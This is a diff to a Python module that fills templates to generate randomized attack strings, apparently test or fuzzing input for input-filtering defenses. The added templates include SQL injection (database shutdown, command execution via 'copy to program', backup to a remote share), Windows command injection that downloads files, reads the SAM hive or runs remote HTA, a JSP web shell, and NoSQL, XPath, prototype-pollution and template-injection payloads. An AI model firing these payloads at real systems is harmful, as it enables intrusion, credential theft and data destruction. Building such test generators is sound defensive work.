@@ -7,6 +7,8 @@ import random
 import re
 from collections.abc import Iterator
 
+from forms import put_back, set_aside
+
 _HOLES: dict[str, list[str]] = {
     "n": ["1", "7", "42", "-1", "0", "999", "31337", "12.5", "2024", "0x1f"],
     "w": ["admin", "x", "foo", "test", "abc", "user", "john", "item", "guest", "news", ""],
@@ -327,6 +329,16 @@ _FORMS: dict[str, list[str]] = {
         "{n} | {n}={n}",
         "{n}{s}{or}{s}{col}{s}is not null{c}",
         "{n}{s}order by{s}ifnull({col},{col}){c}",
+        "{or} {n} {c}",
+        "{or} isnull({n}/0){c}",
+        "{q} {or} {q}{q}{op}{q}",
+        "{w}{q} {or} ({n}){op}({n}){c}",
+        "{w}{q} {or} {q}{w}{q} {or} {q}",
+        "{n};shutdown with nowait{c}",
+        "{n};copy (select {n}) to program '{cmd}'{c}",
+        "{n} mod if({fn},{n},{n})",
+        "{col},(select case when {n}={n} then {n} else {n}/0 end)",
+        "backup database {w} to disk='\\\\{host}\\x'{c}",
     ],
     "xss": [
         "<{tag} {attr} {ev}={js}>",
@@ -391,6 +403,13 @@ _FORMS: dict[str, list[str]] = {
         "\\n{cmd}\\n",
         "file.txt{sep}{cmd}",
         "Runtime.getRuntime().exec('{cmd}')",
+        "{w}{sep}Get-ChildItem Env:",
+        "{sep}Invoke-WebRequest http://{host}/a -OutFile a",
+        "{w}{sep}reg query HKLM\\SAM",
+        "{sep}schtasks /create /tn {w} /tr {cmd}",
+        "{w}{sep}mshta http://{host}/a.hta",
+        "{sep}{{{cmd}}}{sep}",
+        "<%Runtime.getRuntime().exec(request.getParameter({q}{w}{q}))%>",
     ],
     "path_traversal": [
         "{up}{up}{up}{file}",
@@ -451,6 +470,19 @@ _FORMS: dict[str, list[str]] = {
         "<xs:import schemaLocation={q}http://{host}/{w}.xsd{q}/>",
         "<{w}><dynamic-proxy/></{w}>",
         "- var x = root.process",
+        "this.{w}.match(/^a/)//",
+        "{w}' || '{w}'=='{w}",
+        "*|//comment()|*",
+        "'] | //{w} | a['",
+        "count(/child::*)={n}",
+        '{{"{w}":{{"$regex":"^a"}}}}',
+        '{{"__proto__":{{"{w}":{n}}}}}',
+        '{{"@type":"java.lang.Class","val":"{w}"}}',
+        "{{__schema{{types{{name,fields{{name}}}}}}}}",
+        "<!--#include virtual={q}/{file}{q} -->",
+        "{{{{''|attr('__class__')}}}}",
+        "*{{T(java.lang.System).getenv()}}",
+        "{{% set x = {w}.__init__.__globals__ %}}",
         "global.process.mainModule",
     ],
 }
@@ -467,10 +499,7 @@ def attacks(count: int, seed: int) -> Iterator[tuple[str, str]]:
     for _ in range(count):
         kind = drawn.choice(KINDS)
         form = drawn.choice(_FORMS[kind])
-        # Doubled brackets are single ones; they are set aside, so that no hole is seen in them.
-        text = form.replace("{{", "\x01").replace("}}", "\x02")
-        text = _HOLE.sub(lambda hole: drawn.choice(_HOLES[hole[1]]), text)
-        text = text.replace("\x01", "{").replace("\x02", "}")
+        text = put_back(_HOLE.sub(lambda hole: drawn.choice(_HOLES[hole[1]]), set_aside(form)))
         if drawn.random() < 0.15:
             text = "".join(c.upper() if drawn.random() < 0.5 else c for c in text)
         if drawn.random() < 0.08:
